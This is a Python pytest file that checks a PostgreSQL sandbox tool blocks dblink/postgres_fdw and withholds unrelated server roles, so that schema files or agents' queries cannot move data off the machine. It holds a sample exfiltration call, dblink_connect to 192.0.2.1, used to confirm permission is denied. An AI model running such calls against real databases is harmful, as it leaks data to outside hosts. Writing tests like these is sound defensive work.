"""What schema.sql asks for never opens a way off the machine or into the server's other
roles (issue 22, outside attack round 3: C43 and C42).

C43: `CREATE EXTENSION dblink` (made by the administrator) let a migration, or a function an
agent calls through a read-only query, send the sandbox's rows to another host. A network
extension is now refused unless `[schema] network_extensions` allows it (a choice `workbench
trust` records), or left out with `[schema] skip`; allowed, its functions are the owner's
alone. C42: a role schema.sql merely names that already exists on the server, not made by
the workbench, was granted to the sandbox's owner and application roles."""

from __future__ import annotations

import uuid
from pathlib import Path

import psycopg
import pytest
from psycopg import sql

from tests.conftest import Cluster, MakeProject
from workbench.access.roles import role_names
from workbench.config.file import load_config
from workbench.engine import Engine
from workbench.errors import WorkbenchError
from workbench.trust import checkout as trust

BASE = "CREATE TABLE notes (id int PRIMARY KEY, body text NOT NULL);\n"
DBLINK = "CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;\n"
ROWS = "\n[generate]\nrows = 20\n"


def _generate(config: Path, *, snapshot: bool = False) -> WorkbenchError | None:
    try:
        Engine(str(config)).generate(keep_snapshot=snapshot)
    except WorkbenchError as err:
        return err
    return None


def _superuser(cluster: Cluster, db: str = "postgres") -> psycopg.Connection:
    return psycopg.connect(cluster.conninfo(db), autocommit=True)


def _extensions(cluster: Cluster, config: Path) -> set[str]:
    with _superuser(cluster, load_config(config).sandbox.name) as conn:
        return {r[0] for r in conn.execute("SELECT extname FROM pg_extension")}


@pytest.mark.parametrize("extension", ["dblink", "postgres_fdw"])
def test_a_network_extension_is_refused_by_default(
    make_project: MakeProject, pg_cluster: Cluster, extension: str
) -> None:
    config = make_project(BASE + f"CREATE EXTENSION {extension};\n", extra=ROWS)
    err = _generate(config)
    assert err is not None, "the extension was created"
    message = str(err)
    assert f"schema.sql:2: CREATE EXTENSION {extension}" in message
    assert f'[schema] network_extensions = ["{extension}"]' in message
    assert "workbench trust" in message and '[schema] skip = ["network-extension"]' in message
    assert "\n" not in message.strip()  # one paragraph
    assert extension not in _extensions(pg_cluster, config)


def test_skip_leaves_the_network_extension_out(
    make_project: MakeProject, pg_cluster: Cluster
) -> None:
    config = make_project(BASE + DBLINK, extra=ROWS + '\n[schema]\nskip = ["network-extension"]\n')
    assert _generate(config) is None
    assert "dblink" not in _extensions(pg_cluster, config)


def test_an_allowed_network_extension_needs_trust_and_is_the_owners_alone(
    make_project: MakeProject, pg_cluster: Cluster
) -> None:
    config = make_project(
        BASE + DBLINK, extra=ROWS + '\n[schema]\nnetwork_extensions = ["dblink"]\n'
    )
    err = _generate(config)
    assert err is not None and "schema.network_extensions = 'dblink'" in str(err), err
    trust.trust(load_config(config))
    try:
        assert _generate(config, snapshot=True) is None
        loaded = load_config(config)
        names = role_names(loaded)
        with _superuser(pg_cluster, loaded.sandbox.name) as conn:
            callable_by = {
                role: conn.execute(
                    "SELECT has_function_privilege(%s, 'public.dblink_connect(text)', 'EXECUTE')",
                    [role],
                ).fetchone()[0]
                for role in (names.app, names.read, names.owner)
            }
        assert callable_by == {names.app: False, names.read: False, names.owner: True}
        engine = Engine(str(config))
        # a rehearsal (an agent's MCP `rehearse` included) runs as a role in the owner's place
        # that does not get the owner's EXECUTE on the network extension
        leak = "SELECT public.dblink_connect('host=192.0.2.1 connect_timeout=1 dbname=x');"
        for rows in (None, 5):  # on the snapshot's clone, and on a clone filled for it
            attempt = engine.rehearse(sql=leak, rows=rows)
            assert attempt.failed and "permission denied" in attempt.applied.failure.error
        url = engine.database_url()["database_url"]
        # the agent's and the application's role
        with (
            psycopg.connect(url, autocommit=True) as app,
            pytest.raises(psycopg.errors.InsufficientPrivilege),
        ):
            app.execute("SELECT public.dblink_connect('host=192.0.2.1 dbname=x')")
    finally:
        trust.forget(load_config(config))


def _team_role(cluster: Cluster, role: str) -> None:
    """A team's existing NOLOGIN group on the shared server, not the workbench's."""
    with _superuser(cluster) as conn:
        conn.execute(sql.SQL("CREATE ROLE {} NOLOGIN").format(sql.Identifier(role)))


def _members(cluster: Cluster, role: str) -> set[str]:
    with _superuser(cluster) as conn:
        rows = conn.execute(
            "SELECT m.rolname FROM pg_auth_members a JOIN pg_roles r ON r.oid = a.roleid "
            "JOIN pg_roles m ON m.oid = a.member WHERE r.rolname = %s",
            [role],
        ).fetchall()
    return {r[0] for r in rows}


def test_a_role_that_exists_and_is_not_the_workbenchs_is_never_granted(
    make_project: MakeProject, pg_cluster: Cluster
) -> None:
    team = f"team_reporting_{uuid.uuid4().hex[:6]}"
    _team_role(pg_cluster, team)
    schema = BASE + f"GRANT SELECT ON notes TO {team};\nALTER TABLE notes OWNER TO {team};\n"
    config = make_project(schema, extra=ROWS)
    try:
        assert _generate(config) is None
        names = role_names(load_config(config))
        assert not _members(pg_cluster, team) & {names.app, names.owner, names.read}
        with _superuser(pg_cluster, load_config(config).sandbox.name) as conn:
            owner = conn.execute(
                "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE relname = 'notes'"
            ).fetchone()[0]
        assert owner == names.owner  # OWNER TO the team's role is left out
        # granted by an older workbench: the next `env` (any preparation of the roles) revokes
        with _superuser(pg_cluster) as conn:
            for member in (names.app, names.owner):
                conn.execute(
                    sql.SQL("GRANT {} TO {}").format(sql.Identifier(team), sql.Identifier(member))
                )
        Engine(str(config)).database_url()
        assert not _members(pg_cluster, team) & {names.app, names.owner, names.read}
    finally:
        for db in (load_config(config).sandbox.name, "postgres"):
            with _superuser(pg_cluster, db) as conn:
                conn.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(team)))
        with _superuser(pg_cluster) as conn:
            conn.execute(sql.SQL("DROP ROLE {}").format(sql.Identifier(team)))


def test_a_role_the_workbench_made_for_the_file_is_still_granted(
    make_project: MakeProject, pg_cluster: Cluster
) -> None:
    helper = f"helper_{uuid.uuid4().hex[:6]}"
    config = make_project(BASE + f"CREATE ROLE {helper};\nALTER TABLE notes OWNER TO {helper};\n")
    assert _generate(config) is None
    names = role_names(load_config(config))
    assert {names.app, names.owner} <= _members(pg_cluster, helper)


def test_a_snapshot_with_a_network_extension_left_open_is_not_cloned_as_is(
    make_project: MakeProject, pg_cluster: Cluster
) -> None:
    """A snapshot taken before network extensions were closed (dblink EXECUTE for PUBLIC, as
    CREATE EXTENSION leaves it) is not what a fast reset hands back: the full path rebuilds."""
    config = make_project(
        BASE + DBLINK, extra=ROWS + '\n[schema]\nnetwork_extensions = ["dblink"]\n'
    )
    trust.trust(load_config(config))
    try:
        assert _generate(config, snapshot=True) is None
        engine = Engine(str(config))
        snapshot = sql.Identifier(engine.guard.snapshot_name())
        with _superuser(pg_cluster) as admin:
            admin.execute(sql.SQL("ALTER DATABASE {} ALLOW_CONNECTIONS true").format(snapshot))
            with _superuser(pg_cluster, engine.guard.snapshot_name()) as conn:
                conn.execute("GRANT EXECUTE ON FUNCTION public.dblink_connect(text) TO PUBLIC")
            admin.execute(sql.SQL("ALTER DATABASE {} ALLOW_CONNECTIONS false").format(snapshot))
        said: list[str] = []
        engine.reset(on_event=lambda e: said.append(str(getattr(e, "message", ""))))
        assert any("dblink open to every role" in s for s in said), said
        names = role_names(load_config(config))
        with _superuser(pg_cluster, load_config(config).sandbox.name) as conn:
            assert not conn.execute(
                "SELECT has_function_privilege(%s, 'public.dblink_connect(text)', 'EXECUTE')",
                [names.app],
            ).fetchone()[0]
    finally:
        trust.forget(load_config(config))


def test_on_the_embedded_cluster_an_older_workbenchs_file_role_is_adopted(
    make_project: MakeProject,
) -> None:
    """Only the workbench makes roles on its embedded cluster: a plain file role made before
    roles were marked (no comment) is marked and granted as before."""
    helper = f"helper_{uuid.uuid4().hex[:6]}"
    config = make_project(
        BASE + f"ALTER TABLE notes OWNER TO {helper};\n", extra=ROWS, embedded=True
    )
    engine = Engine(str(config))
    engine.up()
    with engine.connect() as conn:
        conn.execute(sql.SQL("CREATE ROLE {} NOLOGIN").format(sql.Identifier(helper)))
    assert _generate(config) is None
    names = role_names(load_config(config))
    with engine.connect() as conn:
        members = {
            r[0]
            for r in conn.execute(
                "SELECT m.rolname FROM pg_auth_members a JOIN pg_roles r ON r.oid = a.roleid "
                "JOIN pg_roles m ON m.oid = a.member WHERE r.rolname = %s",
                [helper],
            )
        }
        owner = conn.execute(
            "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE relname = 'notes'"
        ).fetchone()[0]
        marker = conn.execute(
            "SELECT shobj_description(oid, 'pg_authid') FROM pg_roles WHERE rolname = %s",
            [helper],
        ).fetchone()[0]
    assert {names.app, names.owner} <= members
    assert owner == helper and marker == "sandbox-workbench file role"
